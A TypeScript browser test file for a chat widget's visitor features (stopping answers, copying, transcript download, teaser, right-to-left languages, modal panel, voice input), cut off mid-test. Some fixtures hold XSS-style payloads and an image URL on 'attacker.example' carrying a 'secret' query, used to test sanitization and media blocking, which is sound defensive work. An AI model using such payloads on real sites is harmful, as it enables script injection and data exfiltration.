// Browser tests of the visitor features (issue 9): stop, copy, times and day separators,
// transcript download, teaser, languages and right-to-left, the modal panel, voice input,
// and axe in every mode. Real element, real Chromium; msw stands in for the relay.
import { aTimeout, expect, fixture, html } from '@open-wc/testing';
import { waitUntil } from '../../../test/support/wait-until.js';
import { resize } from '../../../test/support/resize.js';
import { emulateMedia, sendKeys } from '@web/test-runner-commands';
import '../../define.js';
import { createTranscript, reduce } from '../../core/index.js';
import type { IndigoChat } from './indigo-chat.js';
import { $, $$, botMessages, type FakeRelay, typeAndEnter, useFakeRelays, welcomeChunks } from './fake-relay.test-helper.js';
import type { Wire } from './fake-relay.test-helper.js';
import { loadAxe } from '../blocks/blocks.test-helper.js';
import { lazyTesting } from '../blocks/lazy-part.js';

const relays = useFakeRelays('v');
let n = 0;
function relay(): FakeRelay {
  n++;
  return relays.relay();
}

interface MountOptions {
  mode?: string;
  lang?: string;
  id?: string;
  storage?: string;
  teaser?: string;
  teaserDelay?: number;
  consent?: string;
}

async function mount(r: FakeRelay, o: MountOptions = {}): Promise<IndigoChat> {
  const el = document.createElement('indigo-chat');
  el.setAttribute('relay', r.path);
  el.id = o.id ?? `visitor-${n}`;
  el.setAttribute('mode', o.mode ?? 'launcher');
  el.setAttribute('lang', o.lang ?? 'en');
  el.setAttribute('storage', o.storage ?? 'local');
  if (o.teaser !== undefined) el.setAttribute('teaser', o.teaser);
  if (o.teaserDelay !== undefined) el.setAttribute('teaser-delay', String(o.teaserDelay));
  if (o.consent !== undefined) el.setAttribute('consent', o.consent);
  const wrap = await fixture<HTMLDivElement>(html`<div><button id="outside">outside</button></div>`);
  wrap.append(el);
  await el.updateComplete;
  return el;
}

async function ready(el: IndigoChat): Promise<void> {
  if (el.mode === 'launcher' && !el.open) $<HTMLButtonElement>(el, '[part~="launcher"]')!.click();
  // An inline chat starts once it is on screen (IntersectionObserver): show it.
  if (el.mode !== 'launcher') el.scrollIntoView();
  await waitUntil(() => botMessages(el).length >= 1 && el.conversation.transcript.status === 'idle', 'welcome rendered');
  await el.updateComplete;
}

const answer = (htmlText: string): Wire[] => [
  { type: 'processing.start' },
  { type: 'text', data: { text: htmlText } },
  { type: 'processing.end' },
];

/**
 * The visitor's `question` gets an answer that starts and never ends (until stopped),
 * streamed in the page itself: WebKit cannot stream a body through msw's service worker.
 * Everything else goes to the fake relay. Reports whether the request was aborted.
 */
function answerForever(el: IndigoChat, question: string, text: string): { aborted(): boolean } {
  let aborted = false;
  el.fetchImpl = async (url, init) => {
    const body = typeof init.body === 'string' ? (JSON.parse(init.body) as { data?: { text?: string } }) : null;
    if (body?.data?.text !== question) return fetch(url, init);
    init.signal?.addEventListener('abort', () => (aborted = true));
    const enc = new TextEncoder();
    const stream = new ReadableStream<Uint8Array>({
      start(c) {
        c.enqueue(enc.encode('data: {"type":"processing.start"}\n\n'));
        c.enqueue(enc.encode(`data: ${JSON.stringify({ type: 'text', data: { text: `<p>${text}</p>` } })}\n\n`));
      },
    });
    return new Response(stream, { headers: { 'content-type': 'text/event-stream' } });
  };
  return { aborted: () => aborted };
}

const live = (el: IndigoChat) => $(el, '[aria-live="polite"]')!.textContent ?? '';

async function expectAxeClean(el: IndigoChat, what: string): Promise<void> {
  const axe = await loadAxe();
  const result = await axe.run(el, {
    resultTypes: ['violations'],
    runOnly: { type: 'tag', values: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa', 'best-practice'] },
  });
  const found = result.violations.map((v) => `${v.id}: ${v.help} (${v.nodes.map((x) => x.html.slice(0, 120)).join(' | ')})`);
  expect(found, what).to.deep.equal([]);
}

afterEach(async () => {
  await resize(800, 600);
  document.documentElement.style.overflow = '';
});

describe('stop generating', () => {
  it('the send button becomes Stop while an answer streams; Stop keeps what was shown, marks it stopped, re-enables the composer', async () => {
    const r = relay().queue(welcomeChunks());
    const el = await mount(r, { mode: 'inline' });
    const stream = answerForever(el, 'tell me a story', 'A long story begins');
    await ready(el);
    expect($(el, '[part~="stop"]')).to.equal(null);
    await typeAndEnter(el, 'tell me a story');
    // Its text, not only its message: processing.start makes the message, and the transport
    // may yield between the two chunks (WebKit on loaded cores stopped an empty answer).
    await waitUntil(() => botMessages(el)[1]?.textContent.includes('A long story begins'), 'answer streaming');
    await el.updateComplete;
    expect($(el, '[part~="send"]')).to.equal(null);
    const stop = $<HTMLButtonElement>(el, '[part~="stop"]')!;
    expect(stop.getAttribute('aria-label')).to.equal('Stop generating');
    stop.click();
    await el.updateComplete;
    const last = botMessages(el)[1]!;
    expect(last.textContent).to.contain('A long story begins');
    expect(last.querySelector('.status')!.textContent).to.equal('Stopped');
    expect(stream.aborted()).to.equal(true); // the request is cancelled: the relay aborts upstream
    expect(el.conversation.transcript.status).to.equal('idle');
    expect($(el, '[part~="stop"]')).to.equal(null);
    expect($(el, '[part~="send"]')).to.not.equal(null);
    expect(el.shadowRoot!.activeElement).to.equal($(el, '[part~="input"]'));
    // The composer works again.
    await typeAndEnter(el, 'again');
    // The third bot message appears with the typing state, its text follows.
    await waitUntil(() => botMessages(el)[2]?.textContent?.includes('echo again'), 'next answer shown', { timeout: 10000 });
  });

  it('Escape in the composer stops the answer and keeps the panel open; a second Escape closes it', async () => {
    const r = relay().queue(welcomeChunks());
    const el = await mount(r);
    answerForever(el, 'go', 'Streaming…');
    await ready(el);
    await typeAndEnter(el, 'go');
    await waitUntil(() => botMessages(el).length === 2, 'answer streaming');
    await el.updateComplete;
    const input = $<HTMLTextAreaElement>(el, '[part~="input"]')!;
    input.focus();
    await sendKeys({ press: 'Escape' });
    await el.updateComplete;
    expect(el.open).to.equal(true);
    expect(el.conversation.transcript.messages.at(-1)).to.include({ role: 'bot', stopped: true });
    await sendKeys({ press: 'Escape' });
    await el.updateComplete;
    expect(el.open).to.equal(false);
  });

  it('a send while streaming is still queued (Enter), and stopping sends it', async () => {
    const r = relay().queue(welcomeChunks());
    const el = await mount(r, { mode: 'inline' });
    answerForever(el, 'one', 'First');
    await ready(el);
    await typeAndEnter(el, 'one');
    await waitUntil(() => botMessages(el).length === 2, 'answer streaming');
    await typeAndEnter(el, 'two');
    await el.updateComplete;
    expect($$(el, '.queued').length).to.equal(1);
    $<HTMLButtonElement>(el, '[part~="stop"]')!.click();
    await waitUntil(() => r.sent.some((b) => b.data.text === 'two'), 'queued message sent');
    await waitUntil(() => botMessages(el).some((m) => m.textContent.includes('echo two')), 'its answer');
  });
});

describe('copy answer', () => {
  type Written = { items: ClipboardItem[] };
  let original: PropertyDescriptor | undefined;
  let calls: string[];
  let written: Written;
  beforeEach(() => {
    calls = [];
    written = { items: [] };
    original = Object.getOwnPropertyDescriptor(Navigator.prototype, 'clipboard');
    const spy = {
      write: async (items: ClipboardItem[]) => {
        calls.push('write');
        written.items = items;
      },
      writeText: async () => void calls.push('writeText'),
      read: async () => void calls.push('read'),
      readText: async () => void calls.push('readText'),
    };
    Object.defineProperty(Navigator.prototype, 'clipboard', { configurable: true, get: () => spy });
  });
  afterEach(() => {
    if (original) Object.defineProperty(Navigator.prototype, 'clipboard', original);
  });

  it('puts plain text and sanitized HTML on the clipboard on click only, and confirms politely', async () => {
    const r = relay().queue(
      welcomeChunks(),
      answer('<p>Hello <strong>world</strong><img src="x" onerror="alert(1)"></p><ul><li>one</li><li>two</li></ul><script>bad()</script>'),
    );
    const el = await mount(r, { mode: 'inline' });
    await ready(el);
    await typeAndEnter(el, 'hi');
    await waitUntil(() => botMessages(el).length === 2 && el.conversation.transcript.status === 'idle', 'answer');
    await el.updateComplete;
    expect(calls).to.deep.equal([]); // nothing touched the clipboard before the click
    const copy = botMessages(el)[1]!.querySelector<HTMLButtonElement>('[part~="copy"]')!;
    expect(copy.getAttribute('aria-label')).to.equal('Copy answer');
    expect(copy.closest('[role="group"]')!.getAttribute('aria-label')).to.equal('Answer actions');
    copy.click();
    await waitUntil(() => calls.length > 0, 'clipboard written');
    expect(calls).to.deep.equal(['write']);
    const item = written.items[0]!;
    expect([...item.types].sort()).to.deep.equal(['text/html', 'text/plain']);
    const plain = await (await item.getType('text/plain')).text();
    const rich = await (await item.getType('text/html')).text();
    expect(plain).to.equal('Hello world\n\n- one\n- two');
    expect(rich).to.contain('<strong>world</strong>');
    expect(rich).to.contain('<li>one</li>');
    expect(rich).to.not.match(/onerror|<script|bad\(\)/);
    await waitUntil(() => live(el).includes('Answer copied to the clipboard'), 'confirmation announced');
    // Streaming answers and the visitor's own messages offer no copy.
    expect($$(el, '[part~="message-user"] [part~="copy"]').length).to.equal(0);
  });

  it('copies an image nobody allowed (a click-to-load placeholder on screen) as a link, never as an image a paste would fetch', async () => {
    const own = `${location.origin}/own.png`;
    const r = relay().queue(
      welcomeChunks(),
      answer(`<p>See <img src="https://attacker.example/p.gif?d=secret" alt="chart"> and <img src="${own}" alt="ours"></p>`),
    );
    const el = await mount(r, { mode: 'inline' });
    el.mediaOrigins = 'self';
    await ready(el);
    await typeAndEnter(el, 'hi');
    await waitUntil(() => botMessages(el).length === 2 && el.conversation.transcript.status === 'idle', 'answer');
    await el.updateComplete;
    expect(botMessages(el)[1]!.querySelectorAll('[part~="blocked-media"]').length).to.equal(1);
    botMessages(el)[1]!.querySelector<HTMLButtonElement>('[part~="copy"]')!.click();
    await waitUntil(() => calls.length > 0, 'clipboard written');
    const rich = await (await written.items[0]!.getType('text/html')).text();
    expect(rich).to.not.contain('<img src="https://attacker.example');
    expect(rich).to.contain('<a href="https://attacker.example/p.gif?d=secret">chart</a>');
    expect(rich).to.contain(`<img src="${own}" alt="ours"`); // allowed on render: still an image
  });
});

describe('timestamps and day separators', () => {
  it('every message has a time: full date for screen readers, relative text on hover', async () => {
    const r = relay().queue(welcomeChunks());
    const el = await mount(r, { mode: 'inline' });
    await ready(el);
    await typeAndEnter(el, 'hello');
    // A streaming answer has no time yet: wait for it to end (not only to appear).
    await waitUntil(() => botMessages(el).length === 2 && el.conversation.transcript.status === 'idle', 'answer');
    await el.updateComplete;
    const times = $$(el, '[part~="message"] [part~="time"]');
    expect(times.length).to.equal(3);
    const t = times[1]!;
    expect(new Date(t.getAttribute('datetime')!).getTime()).to.be.closeTo(Date.now(), 60_000);
    expect(t.querySelector('.visually-hidden')!.textContent).to.match(new RegExp(`^Sent .*${new Date().getFullYear()}`));
    // Hidden until looked at where the device hovers; shown on touch screens (and headless
    // Chromium and Firefox, which report no hover): phone.browser.test.ts.
    expect(getComputedStyle(t).opacity).to.equal(matchMedia('(hover: hover)').matches ? '0' : '1');
    t.closest('[part~="message"]')!.dispatchEvent(new PointerEvent('pointerover', { bubbles: true, composed: true }));
    expect(t.querySelector('.rel')!.textContent).to.equal('now');
    // The full date is not read again in the answer's announcement.
    expect(live(el)).to.not.contain('Sent ');
    expect($$(el, '[part~="day"]').length).to.equal(0); // one day: no separators
  });

  it('shows a separator before each day of a conversation that spans days, localized', async () => {
    const r = relay();
    const now = Date.now();
    const day = 86_400_000;
    let t = createTranscript();
    t = reduce(t, { type: 'send', data: { type: 'text', text: 'old question' }, at: now - 3 * day });
    t = reduce(t, { type: 'chunk', chunk: { type: 'text', data: { text: '<p>old answer</p>' } } as never, at: now - 3 * day });
    t = reduce(t, { type: 'stream-ended', at: now - 3 * day });
    t = reduce(t, { type: 'send', data: { type: 'text', text: 'new question' }, at: now });
    t = reduce(t, { type: 'stream-aborted', at: now });
    localStorage.setItem(`indigo-chat:v1:${r.path}#visitor-${n}`, JSON.stringify({ v: 1 }));
    const el = await mount(r, { mode: 'inline', lang: 'fr' });
    el.conversation.restore(t, 'sender-x');
    el.requestUpdate();
    await waitUntil(() => $$(el, '[part~="day"]').length === 2, 'two separators');
    await waitUntil(() => $$(el, '[part~="day"]')[1]!.textContent.trim() === 'Aujourd’hui', 'French labels');
    const [first, second] = $$(el, '[part~="day"]');
    expect(first!.textContent.trim()).to.equal(
      new Intl.DateTimeFormat('fr', {
        weekday: 'long',
        day: 'numeric',
        month: 'long',
        ...(new Date(now - 3 * day).getFullYear() === new Date(now).getFullYear() ? {} : { year: 'numeric' }),
      }).format(now - 3 * day),
    );
    expect(second!.nextElementSibling!.textContent).to.contain('new question');
  });
});

describe('transcript download', () => {
  let blobs: Blob[];
  let names: string[];
  // eslint-disable-next-line @typescript-eslint/unbound-method -- kept only to be put back after each test
  const realCreate = URL.createObjectURL;
  // eslint-disable-next-line @typescript-eslint/unbound-method -- kept only to be put back after each test
  const realClick = HTMLAnchorElement.prototype.click;
  beforeEach(() => {
    blobs = [];
    names = [];
    URL.createObjectURL = (b: Blob | MediaSource) => {
      blobs.push(b as Blob);
      return realCreate(b);
    };
    HTMLAnchorElement.prototype.click = function (this: HTMLAnchorElement) {
      names.push(this.download);
    };
  });
  afterEach(() => {
    URL.createObjectURL = realCreate;
    HTMLAnchorElement.prototype.click = realClick;
  });

  it('the header menu opens with the keyboard pattern and downloads .txt and a standalone sanitized .html', async () => {
    const r = relay().queue(
      welcomeChunks('Welcome to <b>Bikes</b>'),
      answer(
        '<p>Our <a href="https://x.example/">shop</a> <img src="https://cdn.example/a.png" alt="a bike"></p><script>steal()</script><p onclick="x()">ok</p>',
      ),
    );
    const el = await mount(r, { mode: 'inline' });
    el.title = 'Indigo Bikes';
    document.title = 'Bikes & Co | Shop';
    await ready(el);
    await typeAndEnter(el, 'where is the <shop>?');
    await waitUntil(() => botMessages(el).length === 2 && el.conversation.transcript.status === 'idle', 'answer');
    await el.updateComplete;
    const menuButton = $<HTMLButtonElement>(el, '[part~="menu"]')!;
    expect(menuButton.getAttribute('aria-haspopup')).to.equal('menu');
    expect(menuButton.getAttribute('aria-expanded')).to.equal('false');
    menuButton.click();
    await waitUntil(() => el.shadowRoot!.activeElement?.getAttribute('data-format') === 'txt', 'focus on the first item');
    expect(menuButton.getAttribute('aria-expanded')).to.equal('true');
    const items = $$(el, '[part~="download"]');
    expect(items.map((i) => i.getAttribute('role'))).to.deep.equal(['menuitem', 'menuitem']);
    await sendKeys({ press: 'ArrowDown' });
    expect(el.shadowRoot!.activeElement?.getAttribute('data-format')).to.equal('html');
    await sendKeys({ press: 'Escape' });
    await el.updateComplete;
    expect(el.shadowRoot!.activeElement).to.equal(menuButton);
    expect($(el, '[role="menu"]')!.hidden).to.equal(true);

    menuButton.click();
    await el.updateComplete;
    items[0]!.click();
    await waitUntil(() => blobs.length === 1, 'txt file');
    const today = new Date();
    const ymd = `${today.getFullYear()}-${String(today.getMonth() + 1).padStart(2, '0')}-${String(today.getDate()).padStart(2, '0')}`;
    expect(names[0]).to.equal(`bikes-co-shop-${ymd}.txt`);
    const txt = await blobs[0]!.text();
    expect(txt).to.match(/^Indigo Bikes: conversation of /);
    expect(txt).to.contain('You (');
    expect(txt).to.contain('where is the <shop>?');
    expect(txt).to.contain('Our shop (https://x.example/)');
    expect(txt).to.not.contain('steal');

    menuButton.click();
    await el.updateComplete;
    items[1]!.click();
    await waitUntil(() => blobs.length === 2, 'html file');
    expect(names[1]).to.equal(`bikes-co-shop-${ymd}.html`);
    const page = await blobs[1]!.text();
    expect(blobs[1]!.type).to.contain('text/html');
    expect(page).to.match(/^<!doctype html>/);
    expect(page).to.contain(`Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'"`);
    expect(page).to.match(/<a href="https:\/\/x\.example\/"[^>]*>shop<\/a>/);
    expect(page).to.contain('where is the &lt;shop&gt;?');
    expect(page).to.not.match(/<script|onclick|steal|<img/i); // no scripts, no handlers, images as links
    expect(page).to.contain('<a href="https://cdn.example/a.png">a bike</a>');
    // The file parses into a document with no script at all.
    const doc = new DOMParser().parseFromString(page, 'text/html');
    expect(doc.querySelectorAll('script, [onclick], [onerror], iframe, object').length).to.equal(0);
    expect(doc.querySelectorAll('li').length).to.equal(3);
  });
});

describe('teaser', () => {
  it('shows beside the closed launcher, is announced once, never takes focus, and is dismissible; once per day', async () => {
    const r = relay();
    const outsideFocus = document.createElement('input');
    document.body.append(outsideFocus);
    outsideFocus.focus();
    const el = await mount(r, { teaser: 'Questions about sizes? Ask me!', teaserDelay: 30, id: 'teaser-a' });
    expect($(el, '[part~="teaser"]')).to.equal(null); // not before the delay
    await waitUntil(() => $(el, '[part~="teaser"]') !== null, 'teaser shown');
    expect($(el, '[part~="teaser"]')!.textContent).to.contain('Questions about sizes? Ask me!');
    await el.updateComplete;
    expect(live(el)).to.contain('Questions about sizes? Ask me!');
    expect(document.activeElement).to.equal(outsideFocus);
    expect(r.sessions).to.equal(0); // a text teaser costs no request
    const close = $<HTMLButtonElement>(el, '[part~="teaser-close"]')!;
    expect(close.getAttribute('aria-label')).to.equal('Dismiss');
    close.click();
    await el.updateComplete;
    expect($(el, '[part~="teaser"]')).to.equal(null);
    outsideFocus.remove();
    // Same visitor, same day: not again.
    el.remove();
    const again = await mount(r, { teaser: 'Questions about sizes? Ask me!', teaserDelay: 0, id: 'teaser-a' });
    await aTimeout(80);
    expect($(again, '[part~="teaser"]')).to.equal(null);
  });

  it('clicking it opens the chat; opening the chat hides it', async () => {
    const r = relay().queue(welcomeChunks());
    const el = await mount(r, { teaser: 'Hi there', id: 'teaser-b' });
    await waitUntil(() => $(el, '[part~="teaser"]') !== null, 'teaser shown');
    $<HTMLButtonElement>(el, '.teaser-text')!.click();
    await el.updateComplete;
    expect(el.open).to.equal(true);
    expect($(el, '[part~="teaser"]')).to.equal(null);
  });

  it("an empty teaser attribute shows the welcome's first text", async () => {
    const r = relay().queue(welcomeChunks('Hello! Spring sale on every bike.'));
    const el = await mount(r, { teaser: '', id: 'teaser-c' });
    await waitUntil(() => $(el, '[part~="teaser"]') !== null, 'teaser shown');
    expect($(el, '.teaser-text')!.textContent.trim()).to.equal('Hello! Spring sale on every bike.');
    expect(el.open).to.equal(false);
  });

  it('its code arriving after the element was removed starts nothing (a teaser of the welcome would fetch it)', async () => {
    const r = relay().queue(welcomeChunks());
    let release!: () => void;
    const gate = new Promise<void>((ok) => (release = ok));
    lazyTesting.override('teaser', () => gate.then(() => import('./teaser.js')));
    try {
      const el = await mount(r, { teaser: '', teaserDelay: 0, id: 'teaser-removed', storage: 'none' });
      el.remove();
      release();
      await aTimeout(400);
      expect(r.sessions).to.equal(0);
      expect(r.sent).to.have.length(0);
    } finally {
      await lazyTesting.restore();
    }
  });

  it('shown on this page is not shown again on it, whatever day an earlier visit stored', async () => {
    const r = relay();
    localStorage.setItem(`indigo-chat:teaser:${r.path}#teaser-stale`, '2000-01-01');
    try {
      const el = await mount(r, { teaser: 'Sale today', teaserDelay: 0, id: 'teaser-stale' });
      await waitUntil(() => $(el, '[part~="teaser"]') !== null, 'teaser shown');
      el.remove(); // a single-page app re-creates the element on the next route
      const again = await mount(r, { teaser: 'Sale today', teaserDelay: 0, id: 'teaser-stale' });
      await aTimeout(150);
      expect($(again, '[part~="teaser"]')).to.equal(null);
    } finally {
      localStorage.removeItem(`indigo-chat:teaser:${r.path}#teaser-stale`);
    }
  });

  it('a delay past what a timer can wait (or Infinity) is a long wait, not none', async () => {
    for (const delay of [3_000_000_000, Infinity]) {
      const r = relay();
      const el = await mount(r, { teaser: 'Much later', teaserDelay: delay, id: `teaser-long-${delay}`, storage: 'none' });
      await aTimeout(150);
      expect($(el, '[part~="teaser"]'), String(delay)).to.equal(null);
      el.remove();
    }
  });

  it('never shows before consent when consent is required', async () => {
    const r = relay();
    const el = await mount(r, { teaser: 'Hi', consent: 'required', id: 'teaser-d' });
    await aTimeout(100);
    expect($(el, '[part~="teaser"]')).to.equal(null);
    expect(localStorage.getItem(`indigo-chat:teaser:${r.path}#teaser-d`)).to.equal(null);
  });

  it('slides in, except under prefers-reduced-motion', async () => {
    const current: 'reduce' | 'no-preference' = matchMedia('(prefers-reduced-motion: reduce)').matches ? 'reduce' : 'no-preference';
    // Emulation needs CDP (Chromium); other engines check the setting they run with.
    const emulated = await emulateMedia({ reducedMotion: 'no-preference' }).then(
      () => true,
      () => false,
    );
    try {
      for (const motion of emulated ? (['no-preference', 'reduce'] as const) : [current]) {
        if (emulated) await emulateMedia({ reducedMotion: motion });
        const r = relay();
        const el = await mount(r, { teaser: 'Hi', id: `teaser-e-${motion}` });
        await waitUntil(() => $(el, '[part~="teaser"]') !== null, 'teaser shown');
        const name = getComputedStyle($(el, '[part~="teaser"]')!).animationName;
        expect(name, motion).to.equal(motion === 'reduce' ? 'none' : 'indigo-teaser-in');
        el.remove();
      }
    } finally {
      if (emulated) await emulateMedia({ reducedMotion: 'no-preference' });
    }
  });
});

describe('languages and right-to-left', () => {
  it('French, German and Spanish load on demand and replace every string', async () => {
    for (const [lang, send, label] of [
      ['fr', 'Envoyer', 'Votre message'],
      ['de', 'Senden', 'Ihre Nachricht'],
      ['es', 'Enviar', 'Tu mensaje'],
    ] as const) {
      const r = relay().queue(welcomeChunks());
      const el = await mount(r, { mode: 'inline', lang });
      await waitUntil(() => $(el, '[part~="send"]')?.getAttribute('aria-label') === send, `${lang} strings`);
      expect($(el, 'label')!.textContent).to.equal(label);
      expect($(el, '.root')!.getAttribute('lang')).to.equal(lang);
      el.remove();
    }
  });

  it('lang="auto" follows navigator.languages', async () => {
    const original = Object.getOwnPropertyDescriptor(Navigator.prototype, 'languages')!;
    Object.defineProperty(Navigator.prototype, 'languages', { configurable: true, get: () => ['pt-BR', 'de-AT', 'en'] });
    try {
      const r = relay().queue(welcomeChunks());
      const el = await mount(r, { mode: 'inline', lang: 'auto' });
      await waitUntil(() => $(el, '[part~="send"]')?.getAttribute('aria-label') === 'Senden', 'German from navigator.languages');
      expect(el.getAttribute('lang')).to.equal('auto');
    } finally {
      Object.defineProperty(Navigator.prototype, 'languages', original);
    }
  });

  it('Arabic and Hebrew lay out right to left; the carousel and its arrows are mirrored', async () => {
    const cards = [1, 2, 3, 4].map((i) => ({ title: `Bike ${i}`, description: 'Fast', image: null }));
    const chunks: Wire[] = [
      { type: 'processing.start' },
      { type: 'text', data: { text: '<p>مرحبا</p>' } },
      { type: 'carousel.start', data: { carousel_id: 7 } },
      ...cards.flatMap((c, i) => [
        {
          type: 'carousel.card.start',
          card_index: i + 1,
          carousel_id: 7,
          data: { title: c.title, description: c.description, image: null },
        },
        { type: 'carousel.card.end', card_index: i + 1, carousel_id: 7 },
      ]),
      { type: 'carousel.end', data: { carousel_id: 7 } },
      { type: 'processing.end' },
    ];
    const r = relay().queue(chunks);
    const el = await mount(r, { mode: 'inline', lang: 'ar' });
    await ready(el);
    await waitUntil(() => $(el, '[part~="send"]')?.getAttribute('aria-label') === 'إرسال', 'Arabic strings');
    const root = $(el, '.root')!;
    expect(root.getAttribute('dir')).to.equal('rtl');
    expect(getComputedStyle($(el, '[part~="composer"]')!).direction).to.equal('rtl');
    // The bot's own text keeps its direction (Arabic here, so right to left; English would stay left to right).
    expect(getComputedStyle($(el, '[part~="bubble"]')!).direction).to.equal('rtl');
    const english = await mount(relay().queue(welcomeChunks('Hello in English')), { mode: 'inline', lang: 'he' });
    await ready(english);
    expect(getComputedStyle($(english, '[part~="bubble"]')!).direction).to.equal('ltr');
    english.remove();
    await waitUntil(() => $$(el, '.card').length === 4, 'carousel');
    await el.updateComplete;
    const next = $(el, '[part~="carousel-next"] svg')!;
    expect(getComputedStyle(next).transform).to.equal('matrix(-1, 0, 0, 1, 0, 0)');
    const strip = $(el, '.carousel-strip')!;
    const first = $$(el, '.card')[0]!;
    // The first card sits at the right edge in RTL (once the strip has laid out its cards).
    await waitUntil(
      () => Math.abs(first.getBoundingClientRect().right - strip.getBoundingClientRect().right) < 4,
      'first card at the right edge',
    );
    expect(first.getBoundingClientRect().left).to.be.greaterThan(strip.getBoundingClientRect().left); // the rest overflow to the left
    first.focus();
    await sendKeys({ press: 'ArrowLeft' }); // in RTL, left is forward
    await waitUntil(() => el.shadowRoot!.activeElement === $$(el, '.card')[1], 'ArrowLeft moves to the next card');
    const hebrew = await mount(relay().queue(welcomeChunks()), { mode: 'inline', lang: 'he' });
    expect($(hebrew, '.root')!.getAttribute('dir')).to.equal('rtl');
    await waitUntil(() => $(hebrew, '[part~="send"]')?.getAttribute('aria-label') === 'שליחה', 'Hebrew strings');
  });
});

describe('modal panel on phones and in fullscreen', () => {
  it('at <= 480 px the launcher panel is a modal dialog: page inert and not scrolling, Escape closes and focus returns to the launcher', async function () {
    if (!(await resize(390, 740))) this.skip(); // WebKit's WebDriver cannot resize: the e2e suite covers phones
    const r = relay().queue(welcomeChunks());
    const el = await mount(r);
    $<HTMLButtonElement>(el, '[part~="launcher"]')!.focus();
    $<HTMLButtonElement>(el, '[part~="launcher"]')!.click();
    await ready(el);
    const panel = $<HTMLDialogElement>(el, '[part~="panel"]')!;
    expect(panel.tagName).to.equal('DIALOG');
    expect(panel.matches(':modal')).to.equal(true);
    expect(getComputedStyle(document.documentElement).overflow).to.equal('hidden');
    // The page behind cannot take focus.
    const outside = document.getElementById('outside') as HTMLButtonElement;
    outside.focus();
    expect(document.activeElement).to.not.equal(outside);
    // Tab moves through the panel and never reaches the page behind it.
    $<HTMLButtonElement>(el, '[part~="menu"]')!.focus();
    for (let i = 0; i < 6; i++) {
      await sendKeys({ press: 'Tab' });
      expect(document.activeElement, `Tab ${i}`).to.not.equal(outside);
    }
    const input = $<HTMLTextAreaElement>(el, '[part~="input"]')!;
    expect(parseFloat(getComputedStyle(input).fontSize)).to.be.at.least(16);
    expect(input.getAttribute('inputmode')).to.equal(null);
    // Sending keeps the focus (and so the keyboard) in the composer.
    input.focus();
    input.value = 'hi';
    input.dispatchEvent(new InputEvent('input', { bubbles: true, composed: true }));
    $<HTMLButtonElement>(el, '[part~="send"]')!.click();
    await el.updateComplete;
    expect(el.shadowRoot!.activeElement).to.equal(input);
    await waitUntil(() => el.conversation.transcript.status === 'idle', 'answer done');
    await el.updateComplete;
    input.focus();
    await sendKeys({ press: 'Escape' });
    await el.updateComplete;
    await el.updateComplete;
    expect(el.open).to.equal(false);
    expect(panel.open).to.equal(false);
    expect(el.shadowRoot!.activeElement).to.equal($(el, '[part~="launcher"]'));
    expect(getComputedStyle(document.documentElement).overflow).to.not.equal('hidden');
  });

  it('fullscreen mode is a modal dialog too; the panel follows the visual viewport height', async () => {
    const r = relay().queue(welcomeChunks());
    const el = await mount(r, { mode: 'fullscreen' });
    await ready(el);
    const panel = $<HTMLDialogElement>(el, '[part~="panel"]')!;
    expect(panel.matches(':modal')).to.equal(true);
    const outside = document.getElementById('outside') as HTMLButtonElement;
    outside.focus();
    expect(document.activeElement).to.not.equal(outside);
    expect(Math.round(panel.getBoundingClientRect().height)).to.equal(Math.round(visualViewport!.height));
    // Escape does not close a fullscreen chat (there is nothing to go back to).
    $<HTMLTextAreaElement>(el, '[part~="input"]')!.focus();
    await sendKeys({ press: 'Escape' });
    await el.updateComplete;
    expect(panel.open).to.equal(true);
    el.remove();
    expect(getComputedStyle(document.documentElement).overflow).to.not.equal('hidden');
  });

  it('a phone on its side (844 x 390) gets the modal panel too, the keyboard-safe height with it', async function () {
    if (!(await resize(844, 390))) this.skip(); // WebKit's WebDriver cannot resize
    const r = relay().queue(welcomeChunks());
    const el = await mount(r);
    await ready(el);
    const panel = $<HTMLDialogElement>(el, '[part~="panel"]')!;
    expect(panel.tagName).to.equal('DIALOG');
    expect(panel.matches(':modal')).to.equal(true);
    // The whole height of the visual viewport, not a floating box's.
    expect(panel.getBoundingClientRect().height).to.be.closeTo(visualViewport!.height, 2);
  });

  it('on a wide screen the launcher panel stays a non-modal panel', async () => {
    const r = relay().queue(welcomeChunks());
    const el = await mount(r);
    await ready(el);
    expect($(el, '[part~="panel"]')!.tagName).to.equal('SECTION');
    const outside = document.getElementById('outside') as HTMLButtonElement;
    outside.focus();
    expect(document.activeElement).to.equal(outside);
  });
});

describe('voice input', () => {
  let originals: Record<string, PropertyDescriptor | undefined>;
  let made: FakeRecognition[];
  class FakeRecognition {
    lang = '';
    interimResults = false;
    continuous = false;
    started = false;
    onresult: ((e: unknown) => void) | null = null;
    onerror: ((e: unknown) => void) | null = null;
    onend: (() => void) | null = null;
    constructor() {
      made.push(this);
    }
    start() {
      this.started = true;
    }
    stop() {
      this.onend?.();
    }
    abort() {
      this.onend?.();
    }
    say(text: string, isFinal: boolean) {
      this.onresult?.({ resultIndex: 0, results: [Object.assign([{ transcript: text }], { isFinal })] });
    }
  }
  beforeEach(() => {
    made = [];
    originals = {
      SpeechRecognition: Object.getOwnPropertyDescriptor(window, 'SpeechRecognition'),
      webkitSpeechRecognition: Object.getOwnPropertyDescriptor(window, 'webkitSpeechRecognition'),
    };
  });
  afterEach(() => {
    for (const [k, d] of Object.entries(originals)) {
      if (d) Object.defineProperty(window, k, d);
      else delete (window as unknown as Record<string, unknown>)[k];
    }
  });

  it('the microphone fills the composer and never sends; nothing is constructed before the click', async () => {
    Object.defineProperty(window, 'SpeechRecognition', { configurable: true, writable: true, value: FakeRecognition });
    const r = relay().queue(welcomeChunks());
    const el = await mount(r, { mode: 'inline', lang: 'it' });
    await ready(el);
    const mic = $<HTMLButtonElement>(el, '[part~="mic"]')!;
    expect(mic.getAttribute('aria-label')).to.equal('Avvia la dettatura');
    expect(made.length).to.equal(0); // no permission prompt before the click
    const input = $<HTMLTextAreaElement>(el, '[part~="input"]')!;
    input.value = 'Ciao,';
    input.dispatchEvent(new InputEvent('input', { bubbles: true, composed: true }));
    mic.click();
    await waitUntil(() => made.length === 1, 'dictation loaded on the click');
    await el.updateComplete;
    expect(made[0]!.started).to.equal(true);
    expect(made[0]!.lang).to.equal('it');
    expect(mic.getAttribute('aria-label')).to.equal('Interrompi la dettatura');
    made[0]!.say('vorrei una bici', false);
    expect(input.value).to.equal('Ciao, vorrei una bici');
    made[0]!.say('vorrei una bici da corsa', true);
    made[0]!.onend?.();
    await el.updateComplete;
